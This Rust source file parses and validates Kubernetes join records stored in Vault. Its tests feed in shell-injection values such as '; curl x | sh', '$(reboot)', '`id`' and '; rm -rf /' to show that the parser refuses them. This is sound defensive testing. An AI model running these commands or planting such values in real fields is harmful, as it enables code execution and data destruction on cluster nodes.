//! The join record: the one shape every sink writes and `fetch` reads back, its field names,
//! the commands built from it, and the validating parser that refuses any record a shell
//! could be fooled by.

use std::collections::BTreeMap;
use std::fmt;

use jiff::Timestamp;

use super::validate;
use crate::join::JoinInfo;
use crate::token::{self, Token};
use crate::{Error, Result};

/// Record field names, in the order they are written (documented in docs/VAULT.md).
pub mod field {
    /// `kubeadm join …` for a worker: what nodes read with `-field=join_command`.
    pub const JOIN_COMMAND: &str = "join_command";
    /// `id.secret`.
    pub const TOKEN: &str = "token";
    /// The public id.
    pub const TOKEN_ID: &str = "token_id";
    /// RFC 3339 UTC expiry; empty when the token never expires.
    pub const EXPIRATION: &str = "expiration";
    /// `host:port` of the apiserver.
    pub const API_SERVER_ENDPOINT: &str = "api_server_endpoint";
    /// `sha256:<hex>` pins, comma-separated.
    pub const CA_CERT_HASHES: &str = "ca_cert_hashes";
    /// The cluster CA bundle (PEM, public), so a node can write a bootstrap kubeconfig.
    pub const CA_CERT: &str = "ca_cert";
    /// The control-plane join command, only when a certificate key was given.
    pub const CONTROL_PLANE_JOIN_COMMAND: &str = "control_plane_join_command";
}

/// Everything a joining node needs, in the one shape every sink writes. Its Debug output is
/// redacted: the token and both join commands carry the secret.
#[derive(Clone, PartialEq, Eq)]
pub struct JoinRecord {
    /// The token.
    pub token: Token,
    /// Expiry; `None` = never.
    pub expiration: Option<Timestamp>,
    /// `host:port`.
    pub api_server_endpoint: String,
    /// `sha256:<hex>` per CA certificate.
    pub ca_cert_hashes: Vec<String>,
    /// PEM bundle of the cluster CA (may be empty when read from an older record).
    pub ca_cert: String,
    /// Certificate key for control-plane joins.
    pub certificate_key: Option<String>,
}

impl fmt::Debug for JoinRecord {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("JoinRecord")
            .field("token", &self.token.masked())
            .field("expiration", &self.expiration)
            .field("api_server_endpoint", &self.api_server_endpoint)
            .field("ca_cert_hashes", &self.ca_cert_hashes)
            .field(
                "certificate_key",
                &self.certificate_key.as_ref().map(|_| "<redacted>"),
            )
            .finish()
    }
}

impl JoinRecord {
    /// The record for `token` joining the cluster `join` describes.
    pub fn new(
        token: Token,
        expiration: Option<Timestamp>,
        join: &JoinInfo,
        ca_der: &[Vec<u8>],
    ) -> Self {
        JoinRecord {
            token,
            expiration,
            api_server_endpoint: join.endpoint.clone(),
            ca_cert_hashes: join.ca_cert_hashes.clone(),
            ca_cert: crate::pki::der_to_pem_bundle(ca_der),
            certificate_key: join.certificate_key.clone(),
        }
    }

    /// The worker join command.
    pub fn join_command(&self) -> String {
        crate::join::command(
            &self.api_server_endpoint,
            &self.token.expose(),
            &self.ca_cert_hashes,
            None,
        )
    }

    /// The control-plane join command, when a certificate key was given.
    pub fn control_plane_join_command(&self) -> Option<String> {
        self.certificate_key.as_deref().map(|k| {
            crate::join::command(
                &self.api_server_endpoint,
                &self.token.expose(),
                &self.ca_cert_hashes,
                Some(k),
            )
        })
    }

    /// The expiry as written: RFC 3339 UTC, or empty for "never".
    pub fn expiration_text(&self) -> String {
        self.expiration
            .map(token::format_expiration)
            .unwrap_or_default()
    }

    /// The record's fields, in their documented order; every value is a string so that KV
    /// reads (`-field=…`), env files and Secrets all see the same text.
    pub fn fields(&self) -> Vec<(&'static str, String)> {
        let mut v = vec![
            (field::JOIN_COMMAND, self.join_command()),
            (field::TOKEN, self.token.expose()),
            (field::TOKEN_ID, self.token.id.to_string()),
            (field::EXPIRATION, self.expiration_text()),
            (field::API_SERVER_ENDPOINT, self.api_server_endpoint.clone()),
            (field::CA_CERT_HASHES, self.ca_cert_hashes.join(",")),
            (field::CA_CERT, self.ca_cert.clone()),
        ];
        if let Some(cp) = self.control_plane_join_command() {
            v.push((field::CONTROL_PLANE_JOIN_COMMAND, cp));
        }
        v
    }

    /// The fields as a JSON object of strings (Vault data, `-o json`, the json file format).
    pub fn to_json(&self) -> serde_json::Value {
        serde_json::Value::Object(
            self.fields()
                .into_iter()
                .map(|(k, v)| (k.to_string(), serde_json::Value::String(v)))
                .collect(),
        )
    }

    /// Parses a published record (from Vault) back, validating every field, so that nothing
    /// a compromised or careless writer stored can reach a shell through `fetch`: the commands
    /// printed later are rebuilt from these validated parts, and stored commands must equal
    /// the rebuilt ones. `what` names where the record came from. Errors name the field; they
    /// repeat a value only when it cannot be the secret (and then escaped).
    pub fn from_fields(map: &BTreeMap<String, String>, what: &str) -> Result<Self> {
        let get = |k: &str| map.get(k).map(String::as_str);
        let bad = |msg: String| Error::runtime(format!("{what} is not a join record: {msg}"));
        let token: Token = get(field::TOKEN)
            .ok_or_else(|| bad(format!("field {} is missing", field::TOKEN)))?
            .parse()
            .map_err(|_| {
                bad(format!(
                    "field {} is not a bootstrap token (6 + 16 characters of [a-z0-9] joined \
                     by a dot)",
                    field::TOKEN
                ))
            })?;
        if let Some(id) = get(field::TOKEN_ID)
            && id != token.id.as_str()
        {
            return Err(bad(format!(
                "field {} does not match the token's id",
                field::TOKEN_ID
            )));
        }
        let expiration = match get(field::EXPIRATION).unwrap_or("") {
            "" => None,
            s => Some(crate::token::parse_expiration(s).ok_or_else(|| {
                bad(format!(
                    "field {} {s:?} is not an RFC 3339 time",
                    field::EXPIRATION
                ))
            })?),
        };
        let api_server_endpoint = get(field::API_SERVER_ENDPOINT)
            .filter(|s| !s.is_empty())
            .ok_or_else(|| bad(format!("field {} is missing", field::API_SERVER_ENDPOINT)))?;
        validate::endpoint(api_server_endpoint).map_err(|why| {
            bad(format!(
                "field {} {api_server_endpoint:?} is not host:port: {why}",
                field::API_SERVER_ENDPOINT
            ))
        })?;
        let ca_cert_hashes: Vec<String> = get(field::CA_CERT_HASHES)
            .unwrap_or("")
            .split(',')
            .filter(|s| !s.is_empty())
            .map(String::from)
            .collect();
        if ca_cert_hashes.is_empty() {
            return Err(bad(format!(
                "field {} is empty: a join needs the CA pins",
                field::CA_CERT_HASHES
            )));
        }
        if !ca_cert_hashes.iter().all(|p| validate::pin(p)) {
            return Err(bad(format!(
                "field {} holds an entry that is not sha256:<64 lowercase hex>",
                field::CA_CERT_HASHES
            )));
        }
        let ca_cert = get(field::CA_CERT).unwrap_or("").to_string();
        if !validate::pem_text(&ca_cert) {
            return Err(bad(format!(
                "field {} is not a PEM certificate bundle",
                field::CA_CERT
            )));
        }
        let certificate_key = match get(field::CONTROL_PLANE_JOIN_COMMAND) {
            None => None,
            Some(c) => {
                let key = c
                    .split_once(" --certificate-key ")
                    .map(|(_, k)| k)
                    .filter(|k| crate::join::validate_certificate_key(k).is_ok())
                    .ok_or_else(|| {
                        bad(format!(
                            "field {} has no valid --certificate-key (64 hex characters) at \
                             its end",
                            field::CONTROL_PLANE_JOIN_COMMAND
                        ))
                    })?;
                Some(key.to_string())
            }
        };
        let rec = JoinRecord {
            token,
            expiration,
            api_server_endpoint: api_server_endpoint.to_string(),
            ca_cert_hashes,
            ca_cert,
            certificate_key,
        };
        // Nodes may run the stored commands directly (`vault kv get -field=join_command`):
        // one that says something else than the record's own parts was not written by us.
        if get(field::JOIN_COMMAND).is_some_and(|c| c != rec.join_command()) {
            return Err(bad(format!(
                "field {} does not match the record's token, endpoint and pins",
                field::JOIN_COMMAND
            )));
        }
        if let Some(c) = get(field::CONTROL_PLANE_JOIN_COMMAND)
            && Some(c) != rec.control_plane_join_command().as_deref()
        {
            return Err(bad(format!(
                "field {} does not match the record's token, endpoint and pins",
                field::CONTROL_PLANE_JOIN_COMMAND
            )));
        }
        Ok(rec)
    }
}

impl super::Record for JoinRecord {
    fn id(&self) -> String {
        self.token.id.to_string()
    }
    fn kind(&self) -> &'static str {
        "bootstrap token"
    }
    fn expiration_text(&self) -> String {
        JoinRecord::expiration_text(self)
    }
    fn fields(&self) -> Vec<(&'static str, String)> {
        JoinRecord::fields(self)
    }
    fn multi_line_fields(&self) -> &'static [&'static str] {
        &[field::CA_CERT]
    }
    fn secrets(&self) -> Vec<String> {
        let mut v = vec![self.token.expose(), self.token.secret.expose().to_string()];
        v.extend(self.certificate_key.clone());
        v
    }
    fn primary_text(&self) -> String {
        let cmd = self
            .control_plane_join_command()
            .unwrap_or_else(|| self.join_command());
        format!("{cmd}\n")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    pub fn pin(c: char) -> String {
        format!("sha256:{}", c.to_string().repeat(64))
    }

    /// A record every check accepts.
    pub fn valid(exp: Option<&str>) -> JoinRecord {
        JoinRecord {
            token: "abcdef.0123456789abcdef".parse().unwrap(),
            expiration: exp.map(|e| e.parse().unwrap()),
            api_server_endpoint: "10.0.0.1:6443".into(),
            ca_cert_hashes: vec![pin('a'), pin('b')],
            ca_cert: "-----BEGIN CERTIFICATE-----\nAQID\n-----END CERTIFICATE-----\n".into(),
            certificate_key: None,
        }
    }

    fn map(r: &JoinRecord) -> BTreeMap<String, String> {
        r.fields().into_iter().map(|(k, v)| (k.into(), v)).collect()
    }

    fn refused(m: &BTreeMap<String, String>) -> String {
        JoinRecord::from_fields(m, "vault secret/x")
            .unwrap_err()
            .to_string()
    }

    use crate::publish::tests::record;

    #[test]
    fn fields_are_strings_in_documented_order() {
        let r = record(Some("2026-11-24T08:00:00Z"));
        let names: Vec<_> = r.fields().iter().map(|(k, _)| *k).collect();
        assert_eq!(
            names,
            [
                "join_command",
                "token",
                "token_id",
                "expiration",
                "api_server_endpoint",
                "ca_cert_hashes",
                "ca_cert"
            ]
        );
        let j = r.to_json();
        assert_eq!(
            j["join_command"],
            "kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef \
             --discovery-token-ca-cert-hash sha256:aa --discovery-token-ca-cert-hash sha256:bb"
        );
        assert_eq!(j["expiration"], "2026-11-24T08:00:00Z");
        assert_eq!(j["ca_cert_hashes"], "sha256:aa,sha256:bb");
        assert!(j.get("control_plane_join_command").is_none());
        assert_eq!(record(None).to_json()["expiration"], "");
    }

    #[test]
    fn control_plane_command_only_with_a_key_and_round_trips() {
        let mut r = valid(Some("2026-11-24T08:00:00Z"));
        r.certificate_key = Some("ab".repeat(32));
        let j = r.to_json();
        assert!(
            j["control_plane_join_command"]
                .as_str()
                .unwrap()
                .ends_with(&format!(
                    "--control-plane --certificate-key {}",
                    "ab".repeat(32)
                ))
        );
        let map: BTreeMap<String, String> =
            r.fields().into_iter().map(|(k, v)| (k.into(), v)).collect();
        assert_eq!(JoinRecord::from_fields(&map, "x").unwrap(), r);
    }

    #[test]
    fn parsing_rejects_what_is_not_a_record() {
        let mut map: BTreeMap<String, String> = BTreeMap::new();
        map.insert("foo".into(), "bar".into());
        let e = JoinRecord::from_fields(&map, "vault secret/x")
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("vault secret/x is not a join record") && e.contains("token"),
            "{e}"
        );
    }

    #[test]
    fn debug_never_shows_the_secret() {
        let mut r = record(None);
        r.certificate_key = Some("ab".repeat(32));
        let d = format!("{r:?}");
        assert!(!d.contains("0123456789abcdef"), "{d}");
        assert!(!d.contains(&"ab".repeat(32)), "{d}");
    }

    #[test]
    fn shell_injection_through_any_field_is_refused_naming_the_field() {
        let good = map(&valid(Some("2026-11-24T08:00:00Z")));
        assert!(JoinRecord::from_fields(&good, "x").is_ok());
        let with = |k: &str, v: &str| {
            let mut m = good.clone();
            m.insert(k.into(), v.into());
            m
        };
        let e = refused(&with("api_server_endpoint", "10.0.0.1:6443; curl x | sh #"));
        assert_eq!(
            e,
            "vault secret/x is not a join record: field api_server_endpoint \
             \"10.0.0.1:6443; curl x | sh #\" is not host:port: the port is not a number from 1 \
             to 65535"
        );
        let e = refused(&with("api_server_endpoint", "$(reboot):6443"));
        assert!(e.contains("field api_server_endpoint"), "{e}");
        for bad in [
            format!("{},sha256:$(reboot)", pin('a')),
            format!("{}`id`", pin('a')),
            format!("{}\nkubeadm reset -f", pin('a')),
            format!("{} ", pin('a')),
        ] {
            let e = refused(&with("ca_cert_hashes", &bad));
            assert_eq!(
                e,
                "vault secret/x is not a join record: field ca_cert_hashes holds an entry that \
                 is not sha256:<64 lowercase hex>"
            );
        }
        let e = refused(&with("ca_cert_hashes", ""));
        assert!(e.contains("field ca_cert_hashes is empty"), "{e}");
        // The token field is never echoed: it is the secret.
        let e = refused(&with("token", "abcdef.0123456789abcdeX; rm -rf /"));
        assert!(e.contains("field token is not a bootstrap token"), "{e}");
        assert!(!e.contains("0123456789abcde"), "{e}");
        let e = refused(&with("token_id", "zzzzzz"));
        assert!(e.contains("field token_id does not match"), "{e}");
        let e = refused(&with("expiration", "tomorrow; reboot"));
        assert!(
            e.contains("field expiration \"tomorrow; reboot\" is not an RFC 3339"),
            "{e}"
        );
        let e = refused(&with("ca_cert", "-----BEGIN CERTIFICATE-----\n$(reboot)\n"));
        assert!(e.contains("field ca_cert is not a PEM"), "{e}");
        // A stored command never reaches stdout: it must equal the one rebuilt from the parts.
        let cmd = format!("{} ; curl x | sh", good["join_command"]);
        let e = refused(&with("join_command", &cmd));
        assert!(e.contains("field join_command does not match"), "{e}");
        assert!(!e.contains("0123456789abcdef"), "{e}");
        let cp = format!(
            "{} --control-plane --certificate-key $(reboot)",
            good["join_command"]
        );
        let e = refused(&with("control_plane_join_command", &cp));
        assert_eq!(
            e,
            "vault secret/x is not a join record: field control_plane_join_command has no valid \
             --certificate-key (64 hex characters) at its end"
        );
        let mut key_then_more = valid(None);
        key_then_more.certificate_key = Some("ab".repeat(32));
        let cp = format!(
            "{}\nreboot",
            key_then_more.control_plane_join_command().unwrap()
        );
        let e = refused(&with("control_plane_join_command", &cp));
        assert!(e.contains("control_plane_join_command"), "{e}");
    }

    fn arb_valid() -> impl Strategy<Value = JoinRecord> {
        let endpoint = prop_oneof![
            (any::<[u8; 4]>(), 1u16..)
                .prop_map(|(ip, p)| format!("{}:{p}", std::net::Ipv4Addr::from(ip))),
            (any::<[u16; 8]>(), 1u16..)
                .prop_map(|(ip, p)| format!("[{}]:{p}", std::net::Ipv6Addr::from(ip))),
            (
                "[a-z][a-z0-9-]{0,20}[a-z0-9](\\.[a-z0-9]{1,10}){0,3}",
                1u16..
            )
                .prop_map(|(h, p)| format!("{h}:{p}")),
        ];
        (
            "[a-z0-9]{6}\\.[a-z0-9]{16}",
            proptest::option::of(0i64..4_000_000_000),
            endpoint,
            prop::collection::vec("[0-9a-f]{64}", 1..4),
            proptest::option::of("[0-9a-fA-F]{64}"),
        )
            .prop_map(|(tok, exp, ep, pins, key)| JoinRecord {
                token: tok.parse().unwrap(),
                expiration: exp.map(|s| Timestamp::from_second(s).unwrap()),
                api_server_endpoint: ep,
                ca_cert_hashes: pins.into_iter().map(|h| format!("sha256:{h}")).collect(),
                ca_cert: String::new(),
                certificate_key: key,
            })
    }

    proptest! {
        /// What fields() writes, from_fields() reads back as the same record.
        #[test]
        fn valid_records_round_trip(r in arb_valid()) {
            let back = JoinRecord::from_fields(&map(&r), "x").unwrap();
            prop_assert_eq!(back, r);
        }

        /// No map panics the parser, and whatever it accepts prints commands free of shell
        /// syntax.
        #[test]
        fn arbitrary_maps_never_panic_or_leak_shell_syntax(
            base in arb_valid(),
            edits in prop::collection::btree_map(
                prop::sample::select(vec![
                    field::JOIN_COMMAND, field::TOKEN, field::TOKEN_ID, field::EXPIRATION,
                    field::API_SERVER_ENDPOINT, field::CA_CERT_HASHES, field::CA_CERT,
                    field::CONTROL_PLANE_JOIN_COMMAND, "other",
                ]),
                proptest::option::of(".{0,80}"),
                0..4,
            ),
        ) {
            let mut m = map(&base);
            for (k, v) in edits {
                match v {
                    Some(v) => m.insert(k.to_string(), v),
                    None => m.remove(k),
                };
            }
            if let Ok(r) = JoinRecord::from_fields(&m, "x") {
                let cmds = [Some(r.join_command()), r.control_plane_join_command()];
                for c in cmds.into_iter().flatten() {
                    prop_assert!(
                        !c.contains([';', '|', '&', '$', '`', '\n', '\r', '(', ')', '<', '>', '\'', '"', '\\']),
                        "{:?}", c
                    );
                }
            }
        }
    }
}
